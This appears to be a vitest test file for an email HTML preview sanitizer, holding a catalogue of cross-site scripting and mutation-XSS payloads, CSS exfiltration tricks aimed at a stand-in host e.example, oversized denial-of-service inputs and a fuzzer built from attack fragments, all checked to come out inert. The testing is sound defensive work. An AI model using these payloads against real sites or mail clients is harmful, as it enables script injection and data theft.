import fc from 'fast-check'
import { Parser } from 'htmlparser2'
import { describe, expect, test } from 'vitest'
import { attributes, written } from './elements.ts'
import { previewDocument, previewPolicy } from './index.ts'
import { inertTarget } from './text.ts'

const allowedElements = new Set([...written.values(), 'img', 'span', 'html', 'head', 'meta', 'title', 'style', 'body'])
const allowedAttributes = new Set([
  ...Object.keys(attributes),
  'class',
  'id',
  'style',
  'title',
  'src',
  'alt',
  'charset',
  'http-equiv',
  'content',
  'name',
])

/** Reads a document again and names all in it that could run, load, send or lead away. */
function dangers(document: string): string[] {
  const found: string[] = []
  const head = document.slice(0, document.indexOf('<body>'))
  let inStyle = false
  const parser = new Parser(
    {
      onopentag(name, given) {
        inStyle = name === 'style'
        if (!allowedElements.has(name)) found.push(`<${name}>`)
        for (const [key, value] of Object.entries(given)) {
          if (!allowedAttributes.has(key)) found.push(`${name}[${key}]`)
          if (key === 'src' && !/^data:image\/(?:png|jpeg);base64,[A-Za-z0-9+/=]+$/.test(value))
            found.push(`${name}[src=${value.slice(0, 50)}]`)
          if (key === 'style' && /url|expression|@import|\\|position:\s*(?:fixed|absolute|sticky)|</i.test(value))
            found.push(`style=${value}`)
          if (key === 'http-equiv' && value !== 'Content-Security-Policy') found.push(`meta ${value}`)
        }
        if (name === 'style' && parser.startIndex > head.length) found.push('style in the body')
      },
      ontext(text) {
        if (inStyle && /url\(|expression|@import|position:\s*(?:fixed|absolute|sticky)|<|javascript/i.test(text))
          found.push(`css ${text.slice(0, 80)}`)
      },
      oncomment: (text) => found.push(`comment ${text}`),
    },
    { decodeEntities: true },
  )
  parser.end(document)
  return found
}

async function preview(html: string) {
  const made = await previewDocument({ html, text: null, images: [] })
  const body = made.document.slice(made.document.indexOf('<div class="tocsin-body">'))
  return { ...made, body, dangers: dangers(made.document) }
}

describe('hostile HTML', () => {
  const attacks: Readonly<Record<string, string>> = {
    script: '<script>alert(1)</script><SCRIPT SRC=http://e.example/x.js></SCRIPT>hello',
    'script within script': '<scr<script>ipt>alert(1)</scr</script>ipt>hello',
    'unclosed script': 'hello<script>alert(1)',
    'event handlers': '<p onclick=alert(1) onmouseover="x" OnLoad=1>hello</p><img src=x onerror=alert(1)>',
    'handler after a slash': '<p/onclick=alert(1)>hello</p><img/src/onerror=alert(1)>',
    'javascript link':
      '<a href="javascript:alert(1)">hello</a><a href="jav&#x09;ascript:alert(1)">x</a><a href=" &#14; javascript:alert(1)">x</a>',
    'javascript with NUL': '<a href="java\0script:alert(1)">hello</a>',
    'data link': '<a href="data:text/html,<script>alert(1)</script>">hello</a>',
    'meta refresh': '<meta http-equiv=refresh content="0;url=http://e.example">hello',
    base: '<base href="http://e.example/"><a href="x">hello</a>',
    link: '<link rel=stylesheet href=http://e.example/x.css>hello',
    iframe: '<iframe src="http://e.example" srcdoc="<script>1</script>">x</iframe>hello',
    'object and embed': '<object data="http://e.example/x.swf"><embed src="http://e.example">hello</object>',
    applet: '<applet code=x>x</applet>hello',
    frameset: '<frameset><frame src=http://e.example></frameset>hello',
    form: '<form action=http://e.example><input name=a value=hello><input type=password><button formaction=x>go</button><textarea>t</textarea><select><option>o</select></form>',
    'svg script': '<svg><script>alert(1)</script></svg>hello',
    'svg onload': '<svg/onload=alert(1)>hello<p>hello',
    'svg animate': '<svg><a xlink:href="javascript:alert(1)"><animate attributeName=href values=javascript:alert(1) /></a></svg>hello',
    'svg style breakout': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">hello',
    'math breakout': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">hello',
    'math annotation': '<math><annotation-xml encoding="text/html"><style></math><img src onerror=alert(1)>hello',
    'form in table in math':
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>hello',
    'noscript breakout': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">hello</noscript>',
    'title breakout': '<title><a title="</title><img src=x onerror=alert(1)>">hello</a>',
    'textarea breakout': '<textarea><a title="</textarea><img src=x onerror=alert(1)>">hello</a>',
    'template content': '<template><script>alert(1)</script><img src=x onerror=1></template>hello',
    'comment breakout': '<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)>hello',
    'conditional comment': '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->hello',
    'bogus comment': '<!foo><?xml <img src=x onerror=1>?><![CDATA[<img src=x onerror=alert(1)>]]>hello',
    plaintext: 'hello<plaintext><script>alert(1)</script>',
    xmp: 'hello<xmp><script>alert(1)</script></xmp>',
    'attribute quotes': '<p title=\'"><img src=x onerror=alert(1)>\' class="x&quot;><script>1</script>" id=\'a"b\'>hello</p>',
    backtick: '<p class=`x` style=`width:1px`>hello</p><img src=`x`onerror=alert(1)>',
    'remote images':
      '<img src=http://e.example/t.gif><img src=//e.example/t.gif><img srcset="http://e.example/a 2x"><table background=http://e.example/b.png><td>hello',
    'picture sources':
      '<picture><source srcset=http://e.example/a><img src=http://e.example/b></picture><video poster=http://e.example/c src=d></video>hello',
    'svg as data image': '<img src="data:image/svg+xml;base64,PHN2Zy8+">hello',
    'css url': '<p style="background:url(http://e.example/x)">hello</p><p style="background-image:u\\72l(http://e.example)">x</p>',
    'css import': '<style>@import "http://e.example/x.css"; @import url(http://e.example/y.css); p{color:red}</style>hello',
    'css font': '<style>@font-face{font-family:x;src:url(http://e.example/f.woff)} p{font-family:x}</style>hello',
    'css expression':
      '<p style="width:expression(alert(1))">hello</p><p style="behavior:url(x.htc)">x</p><p style="-moz-binding:url(x)">x</p>',
    'css in comments': '<p style="background:u/**/rl(http://e.example)">hello</p><p style="width:ex/**/pression(1)">x</p>',
    'css overlay':
      '<div style="position:fixed;top:0;left:0;z-index:9999;width:100%">hello</div><div style="position: absolute !important">x</div>',
    'css ends its element':
      '<style>p{color:red}</style><img src=x onerror=1>{</style>hello<style>a{color:"</style><script>alert(1)</script>"}</style>',
    'css attribute theft': '<style>input[value^=a]{background:url(http://e.example/a)} p{content:attr(title)}</style>hello',
    'css selectors of ours':
      '<style>.tocsin-link,.tocsin-plain,#x,body,html,:root{color:red}</style><a class="tocsin-link" href=http://e.example>hello</a>',
    'css image-set': '<p style="background:image-set(\'http://e.example/x\' 1x)">hello</p><p style="background:-webkit-image-set(x)">x</p>',
    'css variables': '<p style="--x:url(http://e.example);background:var(--x)">hello</p>',
    'full-width signs': '\uff1cscript\uff1ealert(1)\uff1c/script\uff1ehello',
    'odd spaces': '<img\u2028src=x\u00a0onerror=alert(1)>hello<p\fonclick=1>x<p\vonclick=1>y',
    'long s and kelvin': '<\u017fcript>alert(1)</\u017fcript><lin\u212a rel=stylesheet href=x>hello',
    'half surrogates': '<p title="\ud800">hello\udc00</p>',
    'prototype names': '<constructor><__proto__><toString>hello</constructor><p constructor=1 __proto__=2>x</p>',
    'entities without end': '&#60script&#62alert(1)&#60/script&#62hello&lt;img src=x onerror=1&gt;',
    'null bytes': '<scr\0ipt>alert(1)</scr\0ipt><img\0src=x onerror=1>hello',
  }
  test.each(Object.entries(attacks))('%s', async (_, html) => {
    const made = await preview(html)
    expect(made.dangers).toEqual([])
    expect(made.body).toContain('hello')
    // what is written reads the same when it is cleaned again: there is nothing in it to mutate
    expect((await preview(made.body)).dangers).toEqual([])
  })

  test('no mixture of the pieces that attacks are made of gets through', async () => {
    const piece = fc.constantFrom(
      ...'<svg>|<math>|<mtext>|<mglyph>|<style>|</style>|<title>|</title>|<noscript>|</noscript>|<table>|<td>|</table>|<template>|</template>|<select>|<form>|</form>|<!--|-->|--!>|<![CDATA[|]]>|<img src=x onerror=alert(1)>|<a title="|">|<a href=javascript:1>|</a>|<p>|</p>|<script>|</script>|<iframe>|</iframe>|<xmp>|</xmp>|<plaintext>|<desc>|<foreignObject>|</svg>|</math>|<annotation-xml encoding="text/html">|<textarea>|</textarea>|<br>|x|&lt;|&#x3c;script>|<div style="background:url(x)">|<p onclick=1 '.split(
        '|',
      ),
    )
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { maxLength: 14 }), async (pieces) => {
        expect((await preview(pieces.join(''))).dangers).toEqual([])
      }),
      { numRuns: 1500 },
    )
  })

  test('says what was taken out', async () => {
    const { removed } = await preview(
      '<script>1</script><p onclick=1>x</p><img src=http://e.example/a><iframe src=b></iframe><form><input></form><a href=http://e.example>x</a><p style="position:fixed">x</p>',
    )
    expect(removed).toEqual({ scripts: 1, handlers: 1, remote: 2, frames: 1, forms: 2, styles: 1, links: 1 })
  })
})

describe('size', () => {
  test.each([
    ['open tags', '<div>'.repeat(1_000_000)],
    ['different tags', Array.from({ length: 300_000 }, (_, i) => `<b${i}>`).join('')],
    ['formatting', '<b><i><font color=red>'.repeat(230_000)],
    ['tables', '<table><tr><td>'.repeat(330_000)],
    ['ends', `${'<div>'.repeat(1000)}${'</p></b></x>'.repeat(400_000)}`],
    ['anchors', '<a href=http://e.example/>x'.repeat(190_000)],
    ['unclosed attribute', `<p title="${'x'.repeat(5_000_000)}`],
    ['attributes', `<p ${'a=1 b=2 onclick=3 '.repeat(260_000)}>x`],
    ['entities', '&lt;&#60;&amp;'.repeat(350_000)],
    ['style rules', `<style>${'@a{'.repeat(1_600_000)}</style>`],
    ['style braces', `<style>${'p{color:red}'.repeat(400_000)}</style>`],
    ['style semicolons', `<style>${'@x '.repeat(1_600_000)}</style>`],
    ['style comments', `<style>${'/*'.repeat(2_500_000)}</style>`],
    ['style attribute', `<p style="${'color:red;'.repeat(500_000)}">x`],
    ['selectors', `<style>${'a>'.repeat(2_000_000)}{color:red}</style>`],
    ['comments', '<!--'.repeat(1_200_000)],
    ['less-than signs', '<'.repeat(5_000_000)],
    ['images', '<img src=cid:x>'.repeat(330_000)],
  ])('five megabytes of %s end in a bounded document', async (_, html) => {
    const made = await preview(`${html}hello`)
    expect(made.document.length).toBeLessThan(4_000_000)
    expect(dangers(made.document.slice(0, 400_000)).filter((one) => !one.startsWith('span[style=') && !one.startsWith('comment'))).toEqual(
      [],
    )
  })

  test('what is nested too deep is flattened, and its text stays', async () => {
    const made = await preview(`${'<div>'.repeat(5000)}hello${'</div>'.repeat(5000)}`)
    expect(made.body).toContain('hello')
    expect(made.truncated).toBe(true)
    expect(made.body.match(/<div/g)?.length).toBeLessThan(250)
  })
})

describe('what a reader sees', () => {
  test('a link keeps its text, leads nowhere, and tells its target', async () => {
    const { body } = await preview('<a href="https://e.example/login?x=1&amp;y=2">your bank</a>')
    expect(body).toContain('<span class="tocsin-link" title="hxxps://e[.]example/login?x=1&#38;y=2">your bank</span>')
    expect(body).not.toMatch(/href|https:/)
  })

  test.each([
    ['http://e.example/a', 'hxxp://e[.]example/a'],
    ['mailto:a@e.example', 'mailto[:]a[@]e[.]example'],
    ['javascript:alert(1)', 'javascript[:]alert(1)'],
    ['http://e.example/\u202egpj.exe', 'hxxp://e[.]example/ gpj.exe'],
  ])('the target %j is told as %j', (target, told) => {
    expect(inertTarget(target)).toBe(told)
  })

  test('paragraphs, cells and items that nobody closed don’t pile up', async () => {
    const { body, truncated } = await preview(
      `${'<p>a'.repeat(300)}<table>${'<tr><td>b<td>c'.repeat(300)}</table><ul>${'<li>d'.repeat(300)}</ul>`,
    )
    expect(truncated).toBe(false)
    expect(body).toContain('<p>a</p><p>a</p>')
    expect(body).toContain('<td>b</td><td>c</td></tr><tr>')
    expect(body).toContain('<li>d</li><li>d</li>')
  })

  test('an end tag in a cell does not end what is around the table', async () => {
    const { body } = await preview('<div><b><table><tr><td></b></div>in</td><td>next</td></tr></table></b></div>')
    expect(body).toContain('<div><b><table><tr><td>in</td><td>next</td></tr></table></b></div>')
  })

  test('the sender’s own classes and harmless styles stay, under other names', async () => {
    const { document } = await preview(
      '<style>.big, td.x > a:hover, body {font-size:20px; position:fixed} @media (max-width:600px){.big{width:100%}}</style><p class="big tocsin-link" style="color:#f00;position:absolute">x</p>',
    )
    expect(document).toContain('.tocsin-body .m-big,.tocsin-body td.m-x>.tocsin-link:hover,.tocsin-body{font-size:20px}')
    expect(document).toContain('@media (max-width:600px){.tocsin-body .m-big{width:100%}}')
    expect(document).toContain('<p class="m-big m-tocsin-link" style="color:#f00">x</p>')
  })

  test('fields are drawn as frames with what stands in them', async () => {
    const { body } = await preview(
      '<form><input value="your name"><input type=password value=secret><input type=hidden value=token></form>',
    )
    expect(body).toContain('<span class="tocsin-field">your name')
    expect(body).toContain('••••••')
    expect(body).not.toMatch(/secret|token/)
  })

  test('a mail of text alone is shown as it stands', async () => {
    const made = await previewDocument({ html: null, text: 'Dear <b>you</b>,\r\n  http://e.example/ & more\n', images: [] })
    expect(made).toMatchObject({ kind: 'text', truncated: false })
    expect(made.document).toContain('Dear &#60;b&#62;you&#60;/b&#62;,\n  http://e.example/ &#38; more\n</div>')
    expect(dangers(made.document)).toEqual([])
  })

  test('a mail of nothing is an empty document', async () => {
    expect((await previewDocument({ html: ' \n', text: null, images: [] })).kind).toBe('empty')
  })

  test('the document states the policy that it is served under', async () => {
    const { document } = await preview('x')
    for (const part of ["default-src 'none'", "style-src 'unsafe-inline'", 'img-src data:', "form-action 'none'", "base-uri 'none'"]) {
      expect(previewPolicy).toContain(part)
      expect(document).toContain(part)
    }
    expect(previewPolicy).toMatch(/; sandbox$/)
  })
})
